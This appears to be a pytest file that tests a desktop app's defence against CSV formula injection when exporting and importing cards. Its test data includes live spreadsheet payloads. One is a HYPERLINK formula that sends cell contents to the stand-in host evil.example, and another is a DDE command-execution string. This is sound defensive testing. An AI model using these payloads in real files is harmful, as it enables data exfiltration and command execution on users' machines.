"""CSV formula injection (issue 17, item 3): export prefixes a ' to any field a spreadsheet
would read as a formula (OWASP: = + - @ tab, carriage return); import strips exactly that
prefix back, so a round trip is lossless."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from coprod_desktop.domain.model import Card, CardDraft
from coprod_desktop.files.csv_cards import (
    cards_to_csv,
    parse_cards_csv,
    read_cards_csv,
    write_cards_csv,
)

LIVE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
# Already quoted once, or harmless: the round trip must still give them back exactly.
TRICKY = ["'=already quoted", "''+two quotes", "'plain apostrophe", "it's = fine", "a-b", "'"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize("value", LIVE)
def test_export_never_starts_a_field_with_a_formula_character(value: str) -> None:
    card = Card("c1", "custom", value, value, value, value)
    (row,) = _rows(cards_to_csv([card]))
    for field in row[1:5]:  # title, text, more, source
        assert field == "'" + value
        assert field[0] not in "=+-@\t\r"


def test_ids_and_kinds_are_protected_too() -> None:
    (row,) = _rows(cards_to_csv([Card("=id", "custom", "t", "x")]))
    assert row[5] == "'=id" and row[0] == "custom"


@pytest.mark.parametrize("value", LIVE + TRICKY)
def test_round_trip_is_lossless(value: str, tmp_path: Path) -> None:
    title = value.strip() or "x"  # import trims titles; the check is about the prefix
    card = Card("c1", "custom", title, value, value, value)
    path = tmp_path / "deck.csv"
    write_cards_csv([card], path)
    report = read_cards_csv(path)
    assert report.skipped == ()
    kept = value.strip()
    assert report.cards == (CardDraft("custom", title, kept, kept, kept),)
    # and the same card is recognised as already in the deck
    again = read_cards_csv(path, [card])
    assert again.cards == () and len(again.in_deck) == 1


def test_import_strips_only_the_prefix_a_formula_needs() -> None:
    data = b"kind,title,text,more\r\ncustom,'=A1,'hello,''@x\r\ncustom,'-minus,it's,'\r\n"
    report = parse_cards_csv(data)
    assert report.cards == (
        CardDraft("custom", "=A1", "'hello", "'@x"),
        CardDraft("custom", "-minus", "it's", "'"),
    )
